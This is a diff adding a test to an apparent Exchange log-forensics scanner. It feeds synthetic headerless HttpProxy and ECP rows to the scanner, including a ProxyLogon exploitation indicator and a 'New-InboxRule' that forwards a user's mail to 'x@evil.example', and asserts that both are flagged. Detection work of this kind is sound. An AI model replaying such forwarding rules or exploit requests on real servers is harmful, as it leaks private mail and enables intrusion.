@@ -306,3 +306,24 @@ def test_extract_is_validated_and_never_a_condition() -> None:
             assert "bad.yml: rule T-1: extract" in str(exc)
         else:
             raise AssertionError(bad)
+
+
+def test_headerless_httpproxy_and_ecp_rows_are_read(tmp_path: Path) -> None:
+    """Rows copied without their header (Q&A threads, partial collections): the standard 74-column
+    HttpProxy layout and the 4-column ECP layout are mapped; the file stays listed as partly read."""
+    from extriage.formats.records import HTTPPROXY_DEFAULT
+
+    def hp(**kw: str) -> str:
+        return row([kw.get(name, "") for name in HTTPPROXY_DEFAULT])
+
+    rows = [hp(DateTime="2021-03-03T06:49:46.210Z", Protocol="Ecp", UrlStem="/ecp/y.js", ClientIpAddress="130.255.189.21",
+               AnchorMailbox=f"{TARGET}/ecp/proxyLogon.ecp?#", HttpStatus="241", Method="POST"),
+            "2021-03-03T06:50:00.000Z,x,too,short"]
+    write(tmp_path, f"{HP_DIR}/HttpProxy_2021030306-1.LOG", "\n".join(rows) + "\n")
+    write(tmp_path, f"{ECP_DIR}/ECPServer20210903-1.LOG", ecp(
+        "2021-09-03T10:03:33.966Z", "New-InboxRule.Mailbox=''bob@contoso.com''.ForwardTo=''x@evil.example''") + "\n")
+    result = scan(tmp_path)
+    assert any("case:proxylogon-ecp" in f.tags and f.outcome == Outcome.SUCCESS for f in result.findings)
+    assert any(f.rule_id == "MAIL-FWD-ECP" and "forwarding:outside" in f.tags for f in result.findings)
+    notes = [s.reason for s in result.coverage.skipped if "without a #Fields header" in s.reason]
+    assert notes and all("default column layout" in n for n in notes)
